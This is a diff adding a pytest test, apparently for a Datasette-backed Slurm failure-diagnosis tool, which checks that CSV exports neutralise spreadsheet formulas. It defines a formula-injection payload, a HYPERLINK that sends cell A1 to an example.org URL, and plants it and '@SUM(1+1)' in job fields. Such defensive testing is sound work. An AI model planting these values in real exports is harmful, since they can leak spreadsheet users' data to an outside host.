@@ -2,6 +2,8 @@
 paths and reads a database its user may not write. Real Datasette: its own test client in this
 process (actors, headers, POST) and `datasette --get` as an unprivileged user."""
 import asyncio
+import csv
+import io
 import json
 import os
 import re
@@ -456,3 +458,37 @@ def test_no_page_shows_anyone_a_secret_from_a_log_line(secret_db):
     assert "rank 3 on node-02 raised KeyError" in anon["/diagnosis/test/1002/0"].text
     assert "Out of memory on node-01: killed process 99" in anon["/diagnoses/candidates.json"].text
     assert any(SECRET in row["text"] for row in admin.json())
+
+
+FORMULA = '=HYPERLINK("http://example.org/?"&A1,"open")'
+
+
+def test_csv_cells_never_start_a_formula(tmp_path):
+    """Datasette writes CSV itself: a partition (and a job name) that reads as a formula comes
+    out of every CSV with a ' before it; numbers and the HTML page stay as they are."""
+    folder = _job(tmp_path / "j", "1004", {"node-02/rank-3.err": "[rank3]: KeyError: 'x'"})
+    job = folder / "slurm" / "job.txt"
+    job.write_text(job.read_text().replace("JobName=train", "JobName=@SUM(1+1)")
+                   .replace("JobState=", f"Partition={FORMULA} JobState="))
+    path = tmp_path / "d.db"
+    diag, _ = analyze_folder(folder, rules=load_rules())
+    assert diag.job.partition == FORMULA and diag.job.name == "@SUM(1+1)"
+    Store(path).upsert(diag, "test", bundle_path=str(folder))
+
+    async def requests(ds, client):
+        return {p: await client.get(p) for p in (
+            "/diagnoses/recent_failures.csv?days=3650", "/diagnoses/recent_failures.json?"
+            "days=3650&_shape=array",
+            "/diagnoses/diagnoses.csv?_col=job_name&_col=partition&_col=culprit_rank",
+            "/diagnoses/recent_failures?days=3650")}
+    got = run(path, requests, serve_evidence_text="all")
+    csv_page = got["/diagnoses/recent_failures.csv?days=3650"]
+    rows = list(csv.DictReader(io.StringIO(csv_page.text)))
+    assert rows and rows[0]["partition"] == "'" + FORMULA
+    assert int(csv_page.headers["content-length"]) == len(csv_page.content)
+    rows = list(csv.DictReader(io.StringIO(
+        got["/diagnoses/diagnoses.csv?_col=job_name&_col=partition&_col=culprit_rank"].text)))
+    assert rows[0]["job_name"] == "'@SUM(1+1)" and rows[0]["culprit_rank"] == "3"
+    assert got["/diagnoses/recent_failures.json?days=3650&_shape=array"].json()[0][
+        "partition"] == FORMULA
+    assert "&#39;=HYPERLINK" not in got["/diagnoses/recent_failures?days=3650"].text
